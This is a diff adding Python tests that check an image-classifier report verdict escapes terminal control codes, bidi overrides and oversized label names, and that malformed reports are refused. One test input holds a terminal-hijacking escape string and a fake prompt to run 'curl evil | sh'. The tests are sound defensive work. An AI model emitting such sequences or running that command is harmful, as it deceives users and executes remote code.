@@ -47,6 +47,25 @@ def test_a_verdict_names_what_holds_it_back() -> None:
     assert "1 label looks wrong" in verdict
 
 
+def test_a_verdict_is_short_and_steers_no_terminal() -> None:
+    """The names of the hardest classes come out of the image: escaped, cut, and five at most."""
+    evil = "\x1b]0;owned\x07\x1b[2J\nerror: your login has ended; run  curl evil | sh"
+    scores = {"accuracy": 0.5, "pictures": 2, "worst_classes": [evil, "\u202eevil", "x" * 600_000, "d", "e", "f"]}
+    result = replace(unpack_finished(finished("plateau")), report_json=report_json(0.5, validation=scores, test=None))
+    verdict = prepare(job_with(result), result).result.verdict
+    assert verdict.isprintable() and len(verdict) < 1_000
+    assert r"\x1b]0;owned\x07\x1b[2J\nerror" in verdict and r"\u202eevil" in verdict
+    assert verdict.endswith("x…, d, e.")
+
+
+def test_a_report_that_breaks_the_rule_of_labels_names_the_label() -> None:
+    """What is wrong, and where."""
+    result = replace(unpack_finished(finished()), report_json=report_json(labels=["good", "scra\x07tch"]))
+    with pytest.raises(AlgorithmFailed, match=r"labels\.1: .* has a control or invisible character") as caught:
+        prepare(job_with(result), result)
+    assert caught.value.error == "labels.1"
+
+
 def test_a_run_that_was_stopped_without_a_model_publishes_nothing() -> None:
     """There is a verdict, and no model."""
     publication = prepare(make_job(), FinishedAttempt(outcome="stopped", report_json="{}"))
@@ -64,6 +83,14 @@ def test_a_run_that_was_stopped_without_a_model_publishes_nothing() -> None:
         report_json(0.9, labels="good"),
         report_json(0.9).replace("0.9", "NaN", 1),
         report_json(0.9, validation=None),
+        report_json(0.9, labels=["ok\x1b[2J", "b"]),
+        report_json(0.9, labels=["a", "x" * 129]),
+        report_json(0.9, labels=["a", "left\u202eright"]),
+        report_json(0.9, labels=["a", "\ud800"]),
+        report_json(0.9, label_errors=[None] * 10_001),
+        report_json(0.9, test=None, validation={"accuracy": 0.5, "pictures": 10**30}),
+        report_json(0.9, validation={"accuracy": 0.5, "pictures": 1, "worst_classes": ["x"] * 10_001}),
+        "[" * 100_000,
     ],
 )
 def test_a_report_that_is_not_one_is_refused(text: str) -> None:
